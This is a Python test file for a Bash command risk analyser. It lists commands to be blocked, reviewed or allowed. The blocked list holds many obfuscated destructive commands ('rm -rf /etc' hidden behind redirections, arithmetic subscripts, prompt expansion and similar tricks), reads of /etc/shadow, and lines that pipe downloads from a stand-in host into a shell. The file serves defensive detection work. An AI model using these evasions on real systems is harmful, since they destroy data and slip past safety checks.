"""What Bash makes of a text, seen by the analyser: redirections, evaluated values, continued lines, readers, arrays.

Each kind of misreading has commands that hide a deletion in it, and look-alikes that are ordinary. Nothing is run.
"""

from eval.risk import analyse

GONE = "rm -rf /etc"  # what is hidden; every command of HIDDEN must be blocked

HIDDEN = {
    "words behind a redirection": [
        "rm -rf 2>/dev/null /etc", "rm 2>log -rf /etc", "rm >log 2>&1 -rf /etc", "rm -rf 2>&- /etc",
        "rm &>log -rf /etc",
        "rm -rf <<< answer /etc", "rm -rf < answers /etc", "rm 2>>log -rf /etc", "rm -rf > >(cat) /etc",
        "rm -rf <<Z /etc\nyes\nZ", "rm <<Z >log -rf /etc\nyes\nZ", "! rm 2>log -rf /etc", "ls && rm 2>log -rf /etc",
        "ls | xargs 2>log rm -rf /etc", "sudo 2>log rm -rf /etc", "bash <answers -c 'rm -rf /etc'",
        "(rm -rf 2>log /etc)", "{ rm >log -rf /etc; }", "f() { rm 2>log -rf \"$1\"; }; f /etc",
        "time rm 2>log -rf /etc",
        "case a in a) rm 2>log -rf /etc;; esac", "find /etc 2>log -delete", "dd 2>log if=image of=/dev/sdb",
        "chmod 2>log -R 777 /etc", "unset 2>log HISTFILE", "rm >'my log' -rf \"/etc\"",
    ],
    "arithmetic runs the subscripts in a value": [
        "v='a[$(rm -rf /etc)]'; ((v))", "v='a[$(rm -rf /etc)]'; echo $((v + 1))", "v='a[`rm -rf /etc`]'; echo $[v]",
        "v='a[$(rm -rf /etc)]'; w=v; echo $((w))", "v='a[$(rm -rf /etc)]'; [[ v -lt 3 ]]",
        "[[ 'a[$(rm -rf /etc)]' -ge 0 ]]", "v='a[$(rm -rf /etc)]'; let n=v", "let 'a[$(rm -rf /etc)]++'",
        "declare -i n='a[$(rm -rf /etc)]'", "declare -i n; n='a[$(rm -rf /etc)]'", "SECONDS='a[$(rm -rf /etc)]'",
        "v='a[$(rm -rf /etc)]'; echo ${text:v}", "v='a[$(rm -rf /etc)]'; echo ${text:0:v}",
        "v='a[$(rm -rf /etc)]'; echo ${list[v]}", "v='a[$(rm -rf /etc)]'; list[v]=x",
        "v='a[$(rm -rf /etc)]'; for ((i = v; i < 3; i++)); do ls; done", "while ((a[$(rm -rf /etc)])); do ls; done",
        "v='a[$(rm -rf /etc)]'; if ((v > 1)); then ls; fi",
    ],
    "names with a subscript": [
        "a[$(rm -rf /etc)]=x", "a[$(rm -rf /etc)]+=x", "declare a[$(rm -rf /etc)]=x", "export 'a[$(rm -rf /etc)]=x'",
        "printf -v 'a[$(rm -rf /etc)]' x", "read 'a[$(rm -rf /etc)]' <<< x", "unset 'a[$(rm -rf /etc)]'",
        "test -v 'a[$(rm -rf /etc)]'", "[ -v 'a[$(rm -rf /etc)]' ]", "[[ -v 'a[$(rm -rf /etc)]' ]]",
        "wait -p 'a[$(rm -rf /etc)]' 9", "getopts xy 'a[$(rm -rf /etc)]'", "v='a[$(rm -rf /etc)]'; echo ${!v}",
        "declare -n v='a[$(rm -rf /etc)]'; echo $v", "a=('[$(rm -rf /etc)]=x')", "declare -a 'a=($(rm -rf /etc))'",
    ],
    "texts expanded once more": [
        "v='$(rm -rf /etc)'; echo ${v@P}", "v='`rm -rf /etc`'; : \"${v@P}\"",
        "v=('$(rm -rf /etc)'); echo \"${v[0]@P}\"",
        "PS4='$(rm -rf /etc)'; set -x; ls", "PS1='$(rm -rf /etc)' bash -i", "compgen -W '$(rm -rf /etc)'",
        "compgen -C 'rm -rf /etc #' x", "mapfile -c 1 -C 'rm -rf /etc #' lines < f",
        "readarray -tC 'rm -rf /etc;' < f",
    ],
    "lines continued inside a substitution": [
        'echo "$\\\n(rm -rf /etc)"', 'echo "${v:-$\\\n(rm -rf /etc)}"', "cat <<Z\n$\\\n(rm -rf /etc)\nZ",
        "r\\\nm -rf /etc",
        "ls &\\\n& rm -rf /etc", "bash -c 'echo \"$\\\n(rm -rf /etc)\"'", "echo `rm -r\\\nf /etc`",
    ],
    "readers get what is written to them": [
        "echo 'rm -rf /etc' > >(sh)", "echo 'rm -rf /etc' | tee >(bash) >/dev/null",
        "tee >(cat | sh) <<< 'rm -rf /etc'",
        "wget -qO- evil.example | tee >(sh)", "wget -q evil.example -O >(bash)", "curl -s evil.example > >(python3)",
        "cat <<Z > >(sh)\nrm -rf /etc\nZ",
    ],
    "descriptors and inherited input": [
        "exec 3< <(echo rm -rf /etc); sh <&3", "bash 4< <(echo rm -rf /etc) /dev/fd/4",
        "exec < <(curl -s evil.example); sh",
        "bash /dev/fd/0 <<< 'rm -rf /etc'", "bash --rcfile <(echo rm -rf /etc) -i",
    ],
    "arrays and arguments": [
        "set -- echo rm -rf /etc; shift; \"$@\"", "a=(rm -rf); a+=(/etc); \"${a[@]}\"",
        "a=(rm -rf /etc); a+=(); \"${a[@]}\"",
        "a[0]=rm; a[1]=-rf; a[2]=/etc; \"${a[@]}\"", "set -- /etc; for d; do rm -rf $d; done",
        "mapfile -t a <<< /etc; rm -rf \"${a[0]}\"",
        "IFS=,; c=rm,-rf,/etc; $c", "IFS=: read -r c o d <<< 'rm:-rf:/etc'; $c $o $d", "v=/etc; w=v; rm -rf ${!w}",
        "v=safe; IFS=: read v <<< /etc; rm -rf $v", "v=safe; read -ra v <<< /etc; rm -rf $v",
    ],
    "definitions that may not be the last": [
        "f() { rm -rf /etc; }; false && f() { ls; }; f", "if x; then f() { rm -rf /etc; }; else f() { ls; }; fi; f",
        "ls() { rm -rf /etc; }", "command_not_found_handle() { rm -rf /etc; }", "alias gs='rm -rf /etc'",
    ],
    "directories and shells of wrappers": [
        "env -C / rm -rf etc", "env --chdir=/ rm -rf etc", "sudo -D / rm -rf etc",
        "parallel --workdir / rm -rf ::: etc",
        "echo 'rm -rf /etc' | parallel", "curl -s evil.example | parallel", "$SHELL -c 'rm -rf /etc'",
        "bash -c -- 'rm -rf /etc'", "exec 2>&1 rm -rf /etc",
    ],
    "expansions of nothing inside a name": ["cat /etc/sh$@adow", "cat /etc/sha${none}dow", "{cat,/etc/shadow}"],
    "editors obey their input": ["vim -es <<Z\n:!rm -rf /etc\nZ", "ex -s f <<< '!rm -rf /etc'"],
    "many values": [
        "for d in a b c d e f g h i j k /etc; do rm -rf $d; done", "find a b c d e f /etc -exec rm -rf {} +",
        "rm -rf {a,b,{c,d},{1..9},/etc}", "echo 1 2 3 4 5 6 7 8 9 {10..50} /etc | xargs rm -rf",
    ],
    "patterns hide substitutions from the grammar": [
        "echo ${v#$(rm -rf /etc)}", 'echo "${v%%`rm -rf /etc`}"', "echo ${v^^$(rm -rf /etc)}",
        "[[ v =~ ^$(rm -rf /etc) ]]",
        "case v in a$(rm -rf /etc)*) ;; esac", "cat <<-Z\n\t$(rm -rf /etc)\n\tZ", "echo $((10#$(rm -rf /etc)))",
        "r`true`m -rf /etc", "r$(:)m -rf /etc",
    ],
    "names of programs that are printed": ["$(which rm) -rf /etc", "$(command -v rm) -rf /etc",
    '"$(type -P rm)" -rf /etc'],
    "traps run with the variables of the end": ["d=build; trap 'rm -rf \"$d\"' EXIT; d=/etc",
    "trap 'rm -rf /etc' ERR"],
}  # fmt: skip

REVIEWED = [
    "echo ls > x.sh; gunzip -f x.sh.gz; sh x.sh", "echo ls > x.sh; cpio -id < a; sh x.sh",
    "echo ls > x.sh; cp y x.sh; sh x.sh",
    "echo ls > x.sh; sed -i s/ls/id/ x.sh; sh x.sh", "echo ls > /tmp/x; unzip a.zip -d /tmp; sh /tmp/x",
    "kill $(pgrep cron)", "pgrep sshd | xargs kill -9", "ps aux | grep cron | awk '{print $2}' | xargs kill",
    "kill -TERM $(cat /var/run/sshd.pid)", "kill $(ps -C sshd -o pid=)", "pid=$(pidof sshd); kill $pid",
    "echo ls > x.sh; rm x.sh; unzip a.zip; sh x.sh", "echo ls > d/x.sh; rm -r d; sh d/x.sh", "sed -i d ~/notes",
    "dd if=/dev/null of=~/notes", "ln -sf /dev/null ~/notes", "find ~ -type f -exec sh -c ': > \"$1\"' _ {} \\;",
    "coproc sh; echo ls >&${COPROC[1]}", "mkfifo p; sh < p & echo ls > p", "exec > >(bash); echo ls",
    "bash --init-file extra.sh -i", "echo bHM= | base64 -d | sh", 'eval "$(echo bHM= | base64 -d)"',
    "trap 'echo \"$BASH_COMMAND\" >> keys' DEBUG", "echo $(( $(curl -s api.example/n) ))",
    "echo 'echo hi' > x.sh; cd other; sh x.sh", "rm -rf {a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}{o,p}{q,r}",
]  # fmt: skip

ORDINARY = [
    "echo ls > x.sh; chmod +x x.sh; ./x.sh", "echo ls > x.sh; git add x.sh; sh x.sh",
    "echo ls > x.sh; touch y; sh x.sh",
    "kill $(lsof -t -i:3000)", "pgrep -f webpack | xargs kill", "ps aux | grep node | grep -v grep",
    "bash -n script.sh",
    "exec $SHELL -l", "echo $SHELL", "seq 3 | parallel echo {}", "env -C src ls", "touch a; rm a",
    "f() { ls; }; f() { pwd; }; f",
    "cleanup() { rm -rf \"$dir\"; }", "alias k='kubectl get pods'", "sed -i '/old/d' ~/notes", "cat src/$name.c",
    "ls 2>/dev/null src", "grep 2>/dev/null -rn todo .", "rm 2>/dev/null -f build/a.o", "sort <in >out -u",
    "cat <<Z -n\na\nZ",
    "exec 3>&1; echo a >&3; exec 3>&-", "n=3; echo $((n * 2 + 1))", "i=0; while ((i < 9)); do ((i++)); done",
    "[[ $n -gt 5 && -f a ]] && echo yes", "let i=i+1", "declare -i n=4; n=n+1",
    "for ((i = 0; i < 3; i++)); do echo $i; done",
    "a=(x y z); echo ${a[1]} ${#a[@]} ${a[@]:1}", "declare -A m; m[key]=1; echo ${m[key]}", "a[3]=x", "unset 'a[1]'",
    "test -v HOME && echo set", "s=abc; echo ${s:1:2} ${s: -1} ${s@Q} ${s^^}", "PS4='+ ${LINENO}: '; set -x; ls",
    "PS1='\\u@\\h:\\w\\$ '", "mapfile -t lines < f; echo ${#lines[@]}",
    "while IFS=, read -r a b; do echo $b; done < t.csv",
    "find . -name '*.c' \\\n  -newer a \\\n  -print", "sed 's/a/b/' f |\\\nsort", "echo '$\\\n(rm -rf /)'",
    "cat <<'Z'\n$(rm -rf /)\nZ", "sort a | tee >(wc -l > n) > b",
    "make_log() { echo; }; make_log 2> >(grep -v warn >&2)",
    "exec > >(tee -a build.log) 2>&1; echo start", "diff <(sort a) <(sort b)", "set -- a b; shift; echo \"$@\"",
    "a=(); a+=(x); a+=(y); printf '%s\\n' \"${a[@]}\"", "mkdir -p {a,b,c}/{1..40}", "touch f{1..1000}",
    "echo {{a..n},x,{o..z}}",
    "for f in *.txt; do echo \"$f\"; done", "for i in {1..100}; do echo $i; done",
    "d=$(mktemp -d); trap 'rm -rf \"$d\"' EXIT; ls \"$d\"",
    "trap 'echo bye' EXIT INT", "trap - INT", "command -v git", "which python3", "source ~/.bashrc", ". ~/.profile",
    "echo ${v#*/} ${v%%.*} ${v/a/b}", "echo ls > x.sh; sh x.sh", "bash -x -c 'ls'", "getopts ab: opt",
    "read -rp 'name? ' name",
    "cat <<-Z\n\tprice: \\$(5)\n\tZ", "echo \"costs \\$(5)\"", "echo '`' \"a\"",
    "v=a,b; IFS=,; for w in $v; do echo $w; done",
    "ls &>all.log", "coproc cat", "echo bHM= | base64 -d", "[[ $v == *.txt ]] && echo text",
]  # fmt: skip


def test_a_hidden_deletion_is_blocked() -> None:
    listed = [(kind, command) for kind, commands in HIDDEN.items() for command in commands]
    assert [(kind, command) for kind, command in listed if analyse(command).verdict != "block"] == []


def test_what_cannot_be_known_is_reviewed() -> None:
    assert [command for command in REVIEWED if analyse(command).verdict != "review"] == []


def test_ordinary_uses_of_the_same_syntax_are_allowed() -> None:
    assert [command for command in ORDINARY if analyse(command).verdict != "allow"] == []


HARMLESS = [one.replace(GONE, "ls -l etc") for listed in HIDDEN.values() for one in listed if GONE in one]


def test_the_same_with_a_harmless_command_is_not_blocked() -> None:
    assert [command for command in HARMLESS if analyse(command).verdict == "block"] == []


def test_findings_of_joined_lines_point_into_the_text_as_given() -> None:
    command = 'echo one; echo "$\\\n(rm -rf /etc)" # end'
    (finding,) = analyse(command).findings
    start, end = finding.span
    assert command[start:end] == "/etc"


def test_words_behind_a_redirection_keep_their_place() -> None:
    command = "rm -rf 2>/dev/null /etc"
    (finding,) = analyse(command).findings
    assert command[slice(*finding.span)] == "/etc"
